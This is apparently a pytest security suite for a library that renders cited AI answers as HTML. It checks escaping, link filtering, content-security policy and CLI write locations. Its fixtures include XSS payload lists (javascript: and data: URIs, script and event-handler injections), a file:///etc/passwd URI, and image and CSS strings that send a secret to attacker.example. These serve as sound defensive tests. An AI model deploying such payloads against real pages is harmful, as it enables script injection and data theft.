"""Security: HTML output shows everything taken from the input as text, links only
``http(s)`` URIs (and in-page ``#`` anchors), and the command line writes only where
it is told.

The HTML is read back with ``html.parser`` (as a browser tokenizes it), never checked
by substring tricks alone: no ``<script>`` element, no event-handler attribute, no
``href`` but ``http(s)`` and ``#…``, and the hostile strings come back as text.
"""

from __future__ import annotations

import io
import json
import os
import sys
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from grounding_protos.citations import Citation, Source, read, render, source_list
from grounding_protos.cli import main

EXAMPLES = Path(__file__).resolve().parents[1] / "examples"

HOSTILE_URIS = [
    "javascript:alert(1)",
    "JAVASCRIPT:alert(2)",
    " javascript:alert(3)",
    "\tjavascript:alert(4)",
    "java\tscript:alert(5)",
    "java\nscript:alert(6)",
    "java\rscript:alert(7)",
    "jav&#x09;ascript:alert(8)",
    "javascript&colon;alert(9)",
    "data:text/html,<script>alert(10)</script>",
    "DATA:text/html;base64,PHNjcmlwdD5hbGVydCgxMSk8L3NjcmlwdD4=",
    "vbscript:msgbox(12)",
    "\x00javascript:alert(13)",
    "//evil.example/x",
    "https:/\\evil.example",  # not http(s)://: no link
    "file:///etc/passwd",
]
HOSTILE_TITLES = [
    "<script>alert('t1')</script>",
    '"><script>alert("t2")</script>',
    "' onmouseover='alert(3)",
    '" onfocus="alert(4)" autofocus="',
    "</title><script>alert(5)</script>",
    "<img src=x onerror=alert(6)>",
    "<!-- comment --><svg onload=alert(7)>",
    "]]><style>*{}</style>",
]
GOOD_URIS = ['https://ok.example/?q="x"&y=<1>', "HTTP://OK.example/'a'"]
HOSTILE_TEXT = "Köln <script>alert('x')</script> & \"q\" 'a' <b onclick=\"x()\">b</b> 👍🏽 ]]> -->"


class Page(HTMLParser):
    """Start tags, attributes and text of an HTML document, as a browser tokenizes it."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attrs: list[tuple[str, str, str | None]] = []
        self.text: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attrs.extend((tag, name, value) for name, value in attrs)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_data(self, data: str) -> None:
        self.text.append(data)

    @property
    def hrefs(self) -> list[str]:
        return [value or "" for tag, name, value in self.attrs if name == "href"]

    @property
    def all_text(self) -> str:
        return "".join(self.text)


def assert_safe(html: str, *, page: bool = False) -> Page:
    parsed = Page(html)
    assert "script" not in parsed.tags
    assert not {"img", "svg", "iframe", "object", "embed", "form", "input", "base"} & set(
        parsed.tags
    )
    allowed = {"a", "sup", "mark", "ol", "li", "div", "p"}
    if page:
        allowed |= {"html", "head", "meta", "title", "style", "body", "main", "header", "h1",
                    "h2", "section", "footer"}  # fmt: skip
    assert set(parsed.tags) <= allowed, set(parsed.tags) - allowed
    for tag, name, _ in parsed.attrs:
        assert not name.startswith("on"), (tag, name)
        assert name not in ("src", "srcdoc", "formaction", "autofocus", "style"), (tag, name)
    for href in parsed.hrefs:
        assert href.startswith(("https://", "http://", "HTTP://", "#")), href
    return parsed


def hostile_sources() -> list[Source]:
    sources = [Source(uri=uri, title=f"u{i}") for i, uri in enumerate(HOSTILE_URIS)]
    sources += [Source(uri=f"https://t{i}.example", title=t) for i, t in enumerate(HOSTILE_TITLES)]
    sources += [Source(uri=uri, title=uri) for uri in GOOD_URIS]
    sources.append(Source(uri="javascript:alert(99)"))  # no title: the URI is the label
    return sources


def hostile_citations(text: str) -> list[Citation]:
    sources = hostile_sources()
    size = len(text.encode())
    out = []
    for i, source in enumerate(sources):
        end = [5, 12, 37, size][i % 4]
        out.append(Citation(0, end, None, None, None, (source,)))
    return out


def cited(text: str) -> list[Citation]:
    n = len(hostile_sources())
    document = {
        "answerText": text,
        "citations": [{"startIndex": "0", "endIndex": str(len(text.encode())),
                       "sources": [{"referenceId": str(i)} for i in range(n)]}],
        "references": [{"structuredDocumentInfo": {"uri": s.uri, "title": s.title}}
                       for s in hostile_sources()],
    }  # fmt: skip
    return read(document).citations


def test_render_html_shows_hostile_text_and_titles_as_text() -> None:
    citations = cited(HOSTILE_TEXT)
    for highlight in (False, True):
        html = render(HOSTILE_TEXT, citations, "html", highlight=highlight)
        parsed = assert_safe(html)
        assert parsed.all_text.startswith(HOSTILE_TEXT)  # the text comes back exactly
        assert all(href.startswith("#") for href in parsed.hrefs)
    titles = [v for _, name, v in Page(html).attrs if name in ("title", "data-sources")]
    assert any("<script>alert('t1')</script>" in (t or "") for t in titles)


@pytest.mark.parametrize("prefix", ['x"><script>', "x' onclick='a()", "javascript:"])
def test_hostile_id_prefixes_stay_inside_their_attributes(prefix: str) -> None:
    citations = cited(HOSTILE_TEXT)
    for html in (
        render(HOSTILE_TEXT, citations, "html", highlight=True, id_prefix=prefix),
        source_list(HOSTILE_TEXT, citations, "html", id_prefix=prefix),
    ):
        parsed = assert_safe(html)
        ids = [v for _, name, v in parsed.attrs if name == "id"]
        assert all((v or "").startswith(prefix) for v in ids)
        assert all(h.startswith("#" + prefix) for h in parsed.hrefs if h.startswith("#"))


def test_source_list_links_only_http_and_shows_the_rest_as_text() -> None:
    citations = cited(HOSTILE_TEXT)
    parsed = assert_safe(source_list(HOSTILE_TEXT, citations, "html"))
    assert sorted(parsed.hrefs) == sorted(
        GOOD_URIS + [f"https://t{i}.example" for i in range(len(HOSTILE_TITLES))]
    )
    shown = parsed.all_text
    for title in HOSTILE_TITLES:
        assert title in shown
    for uri in HOSTILE_URIS:  # shown, as text (control characters may be folded)
        assert " ".join(uri.split()).replace("\x00", "\ufffd") in " ".join(shown.split()) or (
            uri.strip("\x00") in shown
        ), uri


def test_citations_built_by_hand_are_escaped_too() -> None:
    text = "abcdefghijklmnopqrstuvwxyz0123456789<>&\"'"
    citations = hostile_citations(text)
    assert_safe(render(text, citations, "html", highlight=True))
    assert_safe(source_list(text, citations, "html"))


def cli(argv: list[str], stdin: bytes, monkeypatch: pytest.MonkeyPatch,
        capsysbinary: pytest.CaptureFixture[bytes]) -> tuple[int, str]:  # fmt: skip
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(stdin)))
    code = main(argv)
    return code, capsysbinary.readouterr().out.decode("utf-8")


def hostile_document() -> dict[str, Any]:
    sources = hostile_sources()
    return {
        "answerText": HOSTILE_TEXT,
        "citations": [{"startIndex": "0", "endIndex": "4",
                       "sources": [{"referenceId": str(i)} for i in range(len(sources))]}],
        "references": [{"structuredDocumentInfo": {"uri": s.uri, "title": s.title}}
                       for s in sources],
    }  # fmt: skip


@pytest.mark.parametrize("title", HOSTILE_TITLES)
def test_the_cli_html_page_is_safe(
    title: str, monkeypatch: pytest.MonkeyPatch, capsysbinary: pytest.CaptureFixture[bytes]
) -> None:
    data = json.dumps(hostile_document()).encode()
    code, html = cli(["render", "--style", "html", "--title", title], data, monkeypatch,
                     capsysbinary)  # fmt: skip
    assert code == 0
    parsed = assert_safe(html, page=True)
    assert parsed.tags.count("title") == 1 and parsed.tags.count("style") == 1
    assert title in parsed.all_text  # in <title> and <h1>, as text
    assert parsed.all_text.count(title) >= 2
    assert HOSTILE_TEXT[4:] in parsed.all_text  # after the cited "Köln" and its markers
    csp = [v for tag, name, v in parsed.attrs if tag == "meta" and name == "content"
           and v and "default-src" in v]  # fmt: skip
    assert csp and "'none'" in csp[0] and "script-src" not in csp[0]


def test_the_cli_html_fragments_of_a_batch_are_safe(
    monkeypatch: pytest.MonkeyPatch, capsysbinary: pytest.CaptureFixture[bytes]
) -> None:
    line = json.dumps(hostile_document()).encode()
    code, out = cli(["render", "--jsonl", "--style", "html"], line + b"\n" + line + b"\n",
                    monkeypatch, capsysbinary)  # fmt: skip
    assert code == 0
    for record in map(json.loads, out.splitlines()):
        assert_safe(record["output"])


# --- Fragments carry their own restrictions -------------------------------------------------

EXFILTRATING = (
    "Köln 🍕 ![x](https://attacker.example/p?secret=42) <img src=https://attacker.example/i>"
)
CHIP = (
    "<style>@import url(https://attacker.example/a.css)</style>"
    '<LINK rel=preconnect href="https://secret.attacker.example"><link/rel=dns-prefetch/href=x>'
    '<img src="https://attacker.example/chip.png"><a class="chip" href="https://www.google.com/search?q=k">k</a>'
)


def gemini_line(text: str) -> dict[str, Any]:
    metadata = {
        "webSearchQueries": ["köln"],
        "searchEntryPoint": {"renderedContent": CHIP},
        "groundingChunks": [{"web": {"uri": "https://k.example", "title": "K"}}],
        "groundingSupports": [{"segment": {"endIndex": 5}, "groundingChunkIndices": [0]}],
    }
    return {"candidates": [{"content": {"parts": [{"text": text}]}, "groundingMetadata": metadata}]}


def frame_document(html: str) -> str:
    (srcdoc,) = [
        v or "" for tag, name, v in Page(html).attrs if tag == "iframe" and name == "srcdoc"
    ]
    return srcdoc


def check_fragment(html: str) -> None:
    from grounding_protos._render.page import FRAME_CSP

    parsed = Page(html)
    assert "img" not in parsed.tags and not [n for _, n, _ in parsed.attrs if n == "src"]
    assert "https://attacker.example/p?secret=42" in parsed.hrefs  # the image, as a link
    doc = frame_document(html)
    # the frame's policy comes first, before anything of the chip
    assert doc.startswith(f'<meta http-equiv="Content-Security-Policy" content="{FRAME_CSP}">')
    assert "default-src 'none'" in FRAME_CSP and "img-src data:" in FRAME_CSP
    inner = Page(doc)
    assert "link" not in inner.tags and "gp-inert-link" in inner.tags
    assert inner.tags.index("meta") == 0 and "script" not in inner.tags


def test_fragments_load_nothing_by_default() -> None:
    from grounding_protos._render.page import fragment

    grounded = read(gemini_line(EXFILTRATING))
    assert grounded.text is not None
    check_fragment(fragment(grounded.text, grounded.citations, search=grounded.search))
    shown = render(grounded.text, grounded.citations, "html", highlight=True)
    assert "<img" not in shown and "&lt;img src=https://attacker.example/i&gt;" in shown


def test_the_cli_html_fragments_load_nothing(
    monkeypatch: pytest.MonkeyPatch, capsysbinary: pytest.CaptureFixture[bytes]
) -> None:
    line = json.dumps(gemini_line(EXFILTRATING)).encode()
    code, out = cli(["render", "--jsonl", "--style", "html"], line + b"\n", monkeypatch,
                    capsysbinary)  # fmt: skip
    assert code == 0
    (record,) = map(json.loads, out.splitlines())
    check_fragment(record["output"])


# --- The command line writes only where it is told -------------------------------------------


def _files(root: Path) -> set[str]:
    return {str(p.relative_to(root)) for p in root.rglob("*")}


ANSWER = EXAMPLES / "discoveryengine_answer.json"
GEMINI = EXAMPLES / "gemini_response.json"


@pytest.mark.parametrize(
    ("argv", "targets"),
    [
        (["types"], []),
        (["types", "--json"], []),
        (["render", "{answer}"], []),
        (["render", "--style", "html", "{gemini}", "-o", "page.html"], ["page.html"]),
        (["validate", "{answer}", "--json"], []),
        (["inspect", "{gemini}", "-o", "sub/summary.txt"], []),  # no such dir: refused
        (["encode", "--type", "Answer", "{answer}", "-o", "a.bin"], ["a.bin"]),
        (["convert", "--type", "Answer", "--from", "json", "--to", "text", "{answer}"], []),
        (["convert", "--type", "Answer", "--from", "jsonl", "--to", "jsonl", "{batch}",
          "-o", "out.jsonl", "--failed-lines", "errors.jsonl"], ["out.jsonl", "errors.jsonl"]),
        (["validate", "--jsonl", "--workers", "2", "{batch}", "--failed-lines", "e.jsonl"],
         ["e.jsonl"]),
        (["render", "--jsonl", "{batch}", "-o", "r.jsonl"], ["r.jsonl"]),
        (["render", "{answer}", "-o", "{answer}"], []),  # the input: refused
        (["decode", "--type", "Answer", "{batch}"], []),  # fails: writes nothing
    ],
)  # fmt: skip
def test_the_cli_writes_only_where_it_is_told(
    argv: list[str], targets: list[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
    capsysbinary: pytest.CaptureFixture[bytes],
) -> None:  # fmt: skip
    inputs = tmp_path / "inputs"
    inputs.mkdir()
    answer = inputs / "answer.json"
    answer.write_bytes(ANSWER.read_bytes())
    gemini = inputs / "gemini.json"
    gemini.write_bytes(GEMINI.read_bytes())
    batch = inputs / "batch.jsonl"
    batch.write_bytes(b'{"answerText": "x"}\n{"answerText":\n' + GEMINI.read_bytes().replace(
        b"\n", b" ") + b"\n")  # fmt: skip
    before_inputs = {p.name: p.read_bytes() for p in inputs.iterdir()}
    work = tmp_path / "cwd"
    work.mkdir()
    monkeypatch.chdir(work)
    monkeypatch.setenv("TMPDIR", str(tmp_path / "tmp"))
    names = {"answer": str(answer), "gemini": str(gemini), "batch": str(batch)}
    main([a.format(**names) for a in argv])
    capsysbinary.readouterr()
    assert _files(work) == set(targets) | {str(Path(t).parent) for t in targets} - {"."}
    assert {p.name: p.read_bytes() for p in inputs.iterdir()} == before_inputs
    assert not (tmp_path / "tmp").exists()
    assert sorted(os.listdir(tmp_path)) == ["cwd", "inputs"]
